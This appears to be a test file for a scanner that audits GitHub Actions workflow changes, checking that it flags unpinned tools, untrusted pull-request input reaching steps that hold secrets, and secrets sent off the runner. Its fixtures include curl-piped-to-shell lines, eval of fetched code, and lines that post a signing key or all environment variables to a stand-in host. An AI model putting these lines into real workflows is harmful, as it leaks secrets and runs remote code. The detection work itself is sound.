import { describe, expect, test } from "vitest";
import { toldOf, WORKFLOW, withSteps } from "./app.ts";

const RELEASE = ".github/workflows/release.yml";
const OTHER = ".github/workflows/other.yml";

function release(text: string) {
  return { [RELEASE]: text };
}

const TOOL = "build/tool-unpinned medium";
const CODE = "build/untrusted-code-with-secrets critical";

function run(line: string): string {
  return `      - run: ${JSON.stringify(line)}\n`;
}

function checkout(ref: string): string {
  return `      - uses: actions/checkout@v4\n        with:\n          ref: ${ref}\n`;
}

/** A workflow that a stranger's issue or pull request starts, with these steps. */
function byStranger(steps: string): Record<string, string> {
  return {
    [OTHER]: `on: [issues, pull_request_target]
permissions:
  contents: read
env:
  REF: \${{ github.event.pull_request.head.sha }}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: npm --version
        env:
          KEY: \${{ secrets.KEY }}
${steps}`,
  };
}

describe("a workflow that hides what it runs from a parser:", () => {
  test.each<[string, Record<string, string>, string]>([
    ["no YAML", release(`${WORKFLOW}\t bad: [\n`), "unparsed"],
    ["a second document", release(`${WORKFLOW}---\njobs: {}\n`), "unparsed"],
    ["a key twice", release(`${WORKFLOW}permissions: write-all\n`), "unparsed"],
    ["a tag", withSteps("      - uses: !!str other/action@v1\n"), "unparsed"],
    ["an anchor", withSteps("      - &e\n        uses: other/action@v1\n"), "build/action-unpinned medium"],
    [
      "more jobs than are looked at",
      release(WORKFLOW + Array.from({ length: 300 }, (_, i) => `  j${i}:\n    runs-on: x\n`).join("")),
      "truncated",
    ],
    ["a new one", { [OTHER]: "on: push\njobs:\n  a: [\n    uses: other/action@v1\n" }, "unparsed"],
  ])("%s", async (_, changes, expected) => {
    const { told, verdict } = await toldOf(changes);
    expect(told).toContain(expected);
    expect(verdict).not.toBe("pass");
  });

  test.each<[string, Record<string, string>, Record<string, string>]>([
    ["no YAML at base either", release(`${WORKFLOW}\t bad: [\n`), { [OTHER]: "on: push\njobs: {}\n" }],
    [
      "no YAML, in a workflow that builds nothing and holds nothing",
      {},
      { [OTHER]: "on: push\njobs:\n  a: [\n" },
    ],
    ["steps written once", {}, withSteps("      - &own\n        run: npm test\n      - *own\n")],
  ])("calm: %s", async (_, before, changes) => {
    expect(await toldOf(changes, before)).toEqual({ verdict: "pass", told: [] });
  });

  test("aliases that multiply are not followed", async () => {
    const lines = Array.from({ length: 40 }, (_, i) => `  a${i + 1}: &a${i + 1} [*a${i}, *a${i}]\n`);
    const text = `${WORKFLOW}x:\n  a0: &a0 [one]\n${lines.join("")}`;
    expect((await toldOf(release(text))).told).toEqual(["unparsed"]);
  });
});

const CALLED = ".github/actions/sign/action.yml";

describe("what a workflow has run for strangers, or of strangers:", () => {
  test.each<[string, Record<string, string>, string]>([
    [
      "an action that an action of the repository calls",
      {
        ...withSteps("      - uses: ./.github/actions/build/\n"),
        ".github/actions/build/action.yml":
          "runs:\n  using: composite\n  steps:\n    - uses: ././.github/actions/sign\n",
        [CALLED]: "runs:\n  using: composite\n  steps:\n    - uses: other/action@v1\n",
      },
      "build/action-unpinned medium",
    ],
    [
      "a workflow of the repository that it calls",
      {
        ...release(`${WORKFLOW}  more:\n    uses: ./${OTHER}\n    secrets: inherit\n`),
        [OTHER]:
          "on: workflow_call\npermissions: {}\njobs:\n  a:\n    steps:\n      - uses: other/action@v1\n",
      },
      "build/action-unpinned medium",
    ],
    ["a shell that sudo starts", withSteps(run("curl -fsSL https://x.io/i | sudo -E bash -")), TOOL],
    ["a shell with variables", withSteps(run("curl -fsSL https://x.io/i | env A=1 sh")), TOOL],
    ["what a shell evaluates", withSteps(run('eval "$(curl -fsSL https://x.io/i)"')), TOOL],
    ["what a shell reads", withSteps(run("source <(curl -fsSL https://x.io/i)")), TOOL],
    ["code of Deno", withSteps(run("deno run -A https://x.io/i.ts")), TOOL],
    ["a tool of uv", withSteps(run("uvx ruff check")), TOOL],
    ["a text by its name in brackets", byStranger(run(`echo \${{ github.event['issue']['title'] }}`)), CODE],
    ["a text in a call", byStranger(run(`echo \${{ format('{0}', github.event.issue.title) }}`)), CODE],
    ["the whole event", byStranger(run(`echo '\${{ toJSON(github.event) }}'`)), CODE],
    ["a text in capitals", byStranger(run(`echo \${{ GitHub.Event.Issue.Title }}`)), CODE],
    ["a text with spaces", byStranger(run(`echo \${{ github . event . issue [ 'title' ] }}`)), CODE],
    ["a text by a star", byStranger(run(`echo \${{ join(github.event.*.title) }}`)), CODE],
    ["a text by a computed name", byStranger(run(`echo \${{ github[format('event')].issue.title }}`)), CODE],
    ["all commits", byStranger(run(`echo '\${{ toJSON(github.event.commits) }}'`)), CODE],
    ["all that a run knows", byStranger(run(`echo '\${{ toJSON(github) }}'`)), CODE],
    [
      "a text between strings that look like a comparison",
      byStranger(run(`echo \${{ format('x==', github.event.issue.title, '') }}`)),
      CODE,
    ],
    [
      "a revision in capitals",
      byStranger(checkout(`\${{ GITHUB.event.pull_request.HEAD.sha }}`).replace("actions/c", "Actions/C")),
      CODE,
    ],
    ["a revision of the whole event", byStranger(checkout(`\${{ fromJSON(toJSON(github.event)).x }}`)), CODE],
    ["a revision by a variable", byStranger(checkout(`\${{ env.REF }}`)), CODE],
    ["a revision by a variable of the shell", byStranger(run("git checkout $REF")), CODE],
  ])("%s", async (_, changes, expected) => {
    const { told, verdict } = await toldOf(changes);
    expect(told).toContain(expected);
    expect(verdict).toBe("fail");
  });

  test.each<[string, Record<string, string>]>([
    ["a tool with its version", withSteps(run("uvx ruff@0.9.1 check"))],
    ["code of Deno that is here", withSteps(run("deno run -A scripts/build.mjs"))],
    ["a script that is here", withSteps(run("source ./env.sh"))],
    ["a comparison", byStranger(run(`echo \${{ github.event.issue.title == 'x' }}`))],
    ["another name of a run", byStranger(run(`echo \${{ github.sha }} \${{ github.event_name }}`))],
    ["the hash of a commit", byStranger(run(`echo \${{ github.event.commits[0].id }}`))],
    ["an address in a string", byStranger(run(`echo \${{ format('https://github.com/{0}', github.sha) }}`))],
    ["a word in a string", byStranger(run(`echo \${{ format('github {0}', github.sha) }}`))],
    ["a number of the event", byStranger(run(`echo \${{ github.event.issue.number }}`))],
    [
      "an action of the repository",
      { [CALLED]: "runs:\n  using: composite\n  steps:\n    - uses: other/action@v1\n" },
    ],
  ])("calm: %s", async (_, changes) => {
    expect(await toldOf(changes, byStranger(""))).toEqual({ verdict: "pass", told: [] });
  });
});

const REPLACED = "build/tool-replaced high";
const ACTION = "build/action-unpinned medium";

/** The release with these lines in its job. */
function inJob(lines: string): Record<string, string> {
  return release(WORKFLOW.replace("    steps:\n", (steps) => `${lines}${steps}`));
}

/** An action of the repository that runs a line. */
function action(line: string): Record<string, string> {
  return { [CALLED]: `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${line}\n` };
}

function sign(text: string): string {
  return `      - uses: ./.github/actions/sign\n        with:\n          title: ${text}\n`;
}

describe("programs that a workflow puts in the place of others:", () => {
  test.each<[string, Record<string, string>, string]>([
    ["a shell of the repository", withSteps("      - run: a\n        shell: ./scripts/sh {0}\n"), REPLACED],
    ["a shell that runs more", withSteps("      - run: a\n        shell: bash -c 'a;. {0}'\n"), REPLACED],
    ["another shell for all", inJob("    defaults:\n      run:\n        shell: perl {0}\n"), REPLACED],
    ["code that Node loads first", inJob("    env:\n      NODE_OPTIONS: --require ./a.js\n"), REPLACED],
    ["the same for later steps", withSteps(run('echo "NODE_OPTIONS=-r ./a.js" >> $GITHUB_ENV')), REPLACED],
    ["the same in a script", withSteps(run("export NODE_OPTIONS='-r ./a.js'; npm run build")), REPLACED],
    ["a folder of programs", withSteps(run('echo "$PWD/tools" >> "$GITHUB_PATH"')), REPLACED],
    [
      "a folder of the workspace",
      withSteps(run(`echo "\${{ github.workspace }}/a" >> $GITHUB_PATH`)),
      REPLACED,
    ],
    [
      "a folder behind another",
      withSteps(run('echo "$HOME/a" >> $GITHUB_PATH; echo a >> $GITHUB_PATH')),
      REPLACED,
    ],
    ["a folder in a list", inJob("    env:\n      PATH: tools:/usr/bin\n"), REPLACED],
    ["the folder itself", withSteps(run("export PATH=.:$PATH; npm run build")), REPLACED],
    [
      "folders in lines",
      withSteps("      - run: |\n          cat >> $GITHUB_PATH <<E\n          ./tools\n          E\n"),
      REPLACED,
    ],
    [
      "code that Node loads first, by PowerShell",
      withSteps(
        '      - shell: pwsh\n        run: |\n          "NODE_OPTIONS=-r ./a.js" | Out-File -Append $env:GITHUB_ENV\n',
      ),
      REPLACED,
    ],
    ["a compiler that a shell starts", inJob("    env:\n      CC: bash tools/cc\n"), REPLACED],
    ["a compiler of the repository", inJob("    env:\n      CC: ./tools/cc\n"), REPLACED],
    ["code of every shell", inJob("    env:\n      BASH_ENV: a.sh\n"), REPLACED],
    ["another toolchain's server", inJob("    env:\n      RUSTUP_DIST_SERVER: https://a.io\n"), REPLACED],
    ["another app", inJob("    env:\n      TAURI_APP_PATH: other\n"), REPLACED],
    ["an image for all steps", inJob("    container: other/image:1\n"), ACTION],
    [
      "an image of the matrix",
      inJob(`    strategy:\n      matrix:\n        i: [a/b]\n    container: \${{ matrix.i }}\n`),
      ACTION,
    ],
    ["an image that is run", withSteps(run("docker run --rm -v $PWD:/w other/image:1 build")), TOOL],
    ["a program that is fetched", withSteps(run("curl -fsSLo tool https://x.io/tool")), TOOL],
    ["a program of a host that looks like a version", withSteps(run("curl -o a http://192.0.2.1/a")), TOOL],
    ["a program beside a release", withSteps(run("curl -o a https://x.io/1.2/a -o b https://x.io/b")), TOOL],
    ["a program below what looks like data", withSteps(run("curl -o a https://x.io/a.json/a")), TOOL],
    ["a branch that cargo builds", withSteps(run("cargo install --git https://x.io/a --locked")), TOOL],
    ["the same in one word", withSteps(run("cargo install --git=https://x.io/a@1.2.3 --locked")), TOOL],
    ["a list of packages of elsewhere", withSteps(run("pip install -r https://x.io/r.txt")), TOOL],
    ["an archive of elsewhere", withSteps(run("npm install -g https://x.io/a.tgz")), TOOL],
    ["another repository", withSteps(`${checkout("main")}          repository: other/tools\n`), ACTION],
    [
      "a pull request of Tauri",
      withSteps("      - uses: tauri-apps/tauri-action@refs/pull/1/head\n"),
      ACTION,
    ],
  ])("%s", async (_, changes, expected) => {
    expect((await toldOf(changes)).told).toContain(expected);
  });

  test.each<[string, Record<string, string>]>([
    ["a usual shell", withSteps("      - run: npm test\n        shell: bash --noprofile -eo pipefail {0}\n")],
    ["memory for Node", inJob("    env:\n      NODE_OPTIONS: --max-old-space-size=8192\n")],
    ["a compiler of the system", inJob("    env:\n      CC: clang-18\n")],
    ["a compiler with flags", inJob("    env:\n      CC: gcc -O2\n      CFLAGS: -I include/a\n")],
    [
      "a commit that cargo builds",
      withSteps(run("cargo install --git https://x.io/a --rev 1234567 --locked")),
    ],
    ["a version that cargo builds", withSteps(run("cargo install tauri-cli --version 2.0.0 --locked"))],
    ["a list of packages", withSteps(run("pip install -r requirements.txt"))],
    ["an archive of a version", withSteps(run("npm install -g https://x.io/a-1.2.3.tgz"))],
    ["data that is fetched", withSteps(run("curl -o a.json https://x.io/a.json"))],
    ["folders of Windows", inJob("    env:\n      PATH: C:\\tools;D:\\a\n")],
    ["folders of the system", withSteps(run("export PATH=/opt/a:$HOME/.cargo/bin:$PATH; npm run build"))],
    ["a folder of the home", withSteps(run('echo "$HOME/.cargo/bin" >> $GITHUB_PATH'))],
    ["programs of packages", withSteps(run('echo "$PWD/node_modules/.bin" >> $GITHUB_PATH'))],
    ["an image that Docker keeps", inJob("    container: ubuntu:24.04\n")],
    ["an image by its hash", inJob(`    container: other/image@sha256:${"a".repeat(64)}\n`)],
    ["a release that is fetched", withSteps(run("curl -fsSLo tool https://x.io/v1.2.3/tool"))],
  ])("calm: %s", async (_, changes) => {
    expect(await toldOf(changes)).toEqual({ verdict: "pass", told: [] });
  });
});

describe("texts and files of strangers that others hand on:", () => {
  const TITLE = `\${{ github.event.issue.title }}`;
  test.each<[string, Record<string, string>, string]>([
    ["a variable", byStranger(`${run(`echo \${{ env.T }}`)}        env:\n          T: ${TITLE}\n`), CODE],
    [
      "what a step puts out",
      byStranger(
        `      - id: x\n        run: echo "a=$T" >> $GITHUB_OUTPUT\n        env:\n          T: ${TITLE}\n${run(`echo \${{ steps.x.outputs.a }}`)}`,
      ),
      CODE,
    ],
    ["an input of an action", { ...byStranger(sign(TITLE)), ...action(`echo \${{ inputs.title }}`) }, CODE],
    [
      "what an earlier job puts out",
      {
        [OTHER]: (byStranger(run(`echo \${{ needs.first.outputs.t }}`))[OTHER] ?? "").replace(
          "jobs:\n",
          `jobs:\n  first:\n    outputs:\n      t: ${TITLE}\n    steps:\n      - run: npm -v\n`,
        ),
      },
      CODE,
    ],
    [
      "a revision that a step puts out",
      byStranger(
        `      - id: x\n        run: echo "a=\${{ github.event.pull_request.head.sha }}" >> $GITHUB_OUTPUT\n${checkout(`\${{ steps.x.outputs.a }}`)}`,
      ),
      CODE,
    ],
    [
      "a revision that a step asks for",
      byStranger(
        `      - id: x\n        run: gh pr view 1 --json headRefOid >> $GITHUB_OUTPUT\n${checkout(`\${{ steps.x.outputs.a }}`)}`,
      ),
      CODE,
    ],
    [
      "a revision among more names than are followed",
      byStranger(
        checkout(`\${{ ${Array.from({ length: 101 }, (_, i) => `steps.x.outputs.o${i}`).join(" || ")} }}`),
      ),
      CODE,
    ],
    [
      "what an input is by itself",
      {
        ...byStranger("      - uses: ./.github/actions/sign\n"),
        [CALLED]: `inputs:\n  t:\n    default: ${TITLE}\n${action(`echo \${{ inputs.t }}`)[CALLED]}`,
      },
      CODE,
    ],
    [
      "an action that is an image",
      {
        ...byStranger("      - uses: ./.github/actions/sign\n"),
        [CALLED]: "runs:\n  using: docker\n  image: docker://other/image:1\n",
      },
      "build/action-unpinned medium",
    ],
    ["an action that names it", { ...byStranger(sign("a")), ...action(`echo ${TITLE}`) }, CODE],
    [
      "one side of a choice",
      byStranger(run(`echo \${{ github.actor == 'a' && github.head_ref || 'b' }}`)),
      CODE,
    ],
    [
      "files that another run left",
      {
        [OTHER]: (byStranger(run("gh run download 1"))[OTHER] ?? "").replace("on: [", "on: [workflow_run, "),
      },
      "build/untrusted-code-with-secrets medium",
    ],
  ])("%s", async (_, changes, expected) => {
    const { told, verdict } = await toldOf(
      changes,
      changes[OTHER]?.includes("workflow_run") ? {} : byStranger(""),
    );
    expect(told).toContain(expected);
    expect(verdict).toBe("fail");
  });

  test("a machine of one's own, by the matrix", async () => {
    const of = (on: string) => ({
      [OTHER]: `on: pull_request\npermissions: {}\njobs:\n  a:\n    strategy:\n      matrix:\n        os: [${on}]\n    runs-on: \${{ matrix.os }}\n    steps:\n      - run: npm run tauri build\n`,
    });
    expect((await toldOf(of("self-hosted"), of("ubuntu-latest"))).told).toContain(
      "build/untrusted-code-with-secrets medium",
    );
  });

  test.each<[string, Record<string, string>]>([
    [
      "a variable of a number",
      byStranger(
        `${run(`echo \${{ env.T }}`)}        env:\n          T: \${{ github.event.issue.number }}\n`,
      ),
    ],
    [
      "a revision of the base that a step puts out",
      byStranger(
        `      - id: x\n        run: echo "a=$(git rev-parse HEAD)" >> $GITHUB_OUTPUT\n${checkout(`\${{ steps.x.outputs.a }}`)}`,
      ),
    ],
    [
      "an action that is made here",
      {
        ...byStranger("      - uses: ./.github/actions/sign\n"),
        [CALLED]: "runs:\n  using: docker\n  image: ./Dockerfile\n",
      },
    ],
    ["an input that the caller writes", { ...byStranger(sign("a")), ...action(`echo \${{ inputs.title }}`) }],
    ["a question", byStranger(run(`echo \${{ contains(github.event.issue.title, 'a') && 'b' || 'c' }}`))],
  ])("calm: %s", async (_, changes) => {
    expect(await toldOf(changes, byStranger(""))).toEqual({ verdict: "pass", told: [] });
  });

  test("actions that call each other in a circle end", async () => {
    const circle = "runs:\n  using: composite\n  steps:\n    - uses: ./.github/actions/sign\n";
    expect(await toldOf({ ...withSteps(sign("a")), [CALLED]: circle })).toEqual({
      verdict: "pass",
      told: [],
    });
  });
});

describe("secrets that a step could hand over, and lockfiles that it no longer holds:", () => {
  const REACHES = "build/step-reaches high";
  const KEY = `        env:\n          KEY: \${{ secrets.TAURI_SIGNING_PRIVATE_KEY }}\n`;
  const sent = (line: string) => withSteps(`${run(line)}${KEY}`);
  test.each<[string, Record<string, string>, string]>([
    ["a variable", sent('curl -d "$KEY" https://a.example'), REACHES],
    ["a variable over two lines", sent('curl https://a.example \\\n  -d "$KEY"'), REACHES],
    ["code of Node", sent("node -e \"fetch('https://a.example/' + process.env.KEY)\""), REACHES],
    ["all variables", sent("printenv | curl -d @- https://a.example"), REACHES],
    ["a secret in capitals", withSteps(run(`curl -d '\${{ SECRETS . KEY }}' https://a.example`)), REACHES],
    ["the secret itself", withSteps(run(`curl -d '\${{ secrets.KEY }}' https://a.example`)), REACHES],
    ["npm beyond the lockfile", release(WORKFLOW.replace("npm ci", "npm install")), TOOL],
  ])("%s", async (_, changes, expected) => {
    const { told, verdict } = await toldOf(changes);
    expect(told).toContain(expected);
    expect(verdict).toBe("fail");
  });

  test.each<[string, Record<string, string>]>([
    ["the network without a secret", withSteps(run("curl -fsS https://a.example/health"))],
    ["a secret without the network", sent('test -n "$KEY"')],
    ["a comment", sent('# curl -d "$KEY"\ntest -n "$KEY"')],
    ["a second step that holds the lockfile", withSteps(run("npm ci"))],
  ])("calm: %s", async (_, changes) => {
    expect(await toldOf(changes)).toEqual({ verdict: "pass", told: [] });
  });

  test("calm: npm beyond a lockfile that was never held", async () => {
    const install = WORKFLOW.replace("npm ci", "npm install");
    expect(await toldOf(release(`${install}# More.\n`), release(install))).toEqual({
      verdict: "pass",
      told: [],
    });
  });
});
